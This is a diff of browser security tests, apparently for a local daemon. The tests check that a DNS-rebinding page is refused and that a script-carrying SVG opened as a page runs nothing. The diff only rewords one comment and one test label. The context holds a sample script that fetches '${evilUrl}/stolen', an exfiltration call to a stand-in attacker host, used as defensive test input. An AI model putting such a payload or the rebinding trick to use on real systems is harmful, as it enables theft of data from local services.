@@ -118,7 +118,7 @@ describe('a page of another site, in a browser', () => {
   it('is refused under a name that DNS points to this machine', async () => {
     const rebound = `http://rebound.example:${daemon.port}`
     const page = await newPage()
-    // The attacker served the page before the name was rebound; its further requests come here.
+    // The attacker served the page before the name was rebound. The page's further requests reach the daemon.
     await page.route(`${rebound}/`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html>' }))
     await page.goto(`${rebound}/`)
     expect(await read(page, '/rpc', { ...post, headers: json })).toMatch(/^basic 403 .*ERR_FORBIDDEN/)
@@ -128,7 +128,7 @@ describe('a page of another site, in a browser', () => {
   })
 })
 
-describe('an SVG that carries a script, opened by itself', () => {
+describe('an SVG that carries a script, opened as a page', () => {
   it('runs nothing and sends nothing anywhere', async () => {
     await mkdir(daemon.config.output, { recursive: true })
     const script = `document.title = 'ran'; fetch('${evilUrl}/stolen')`
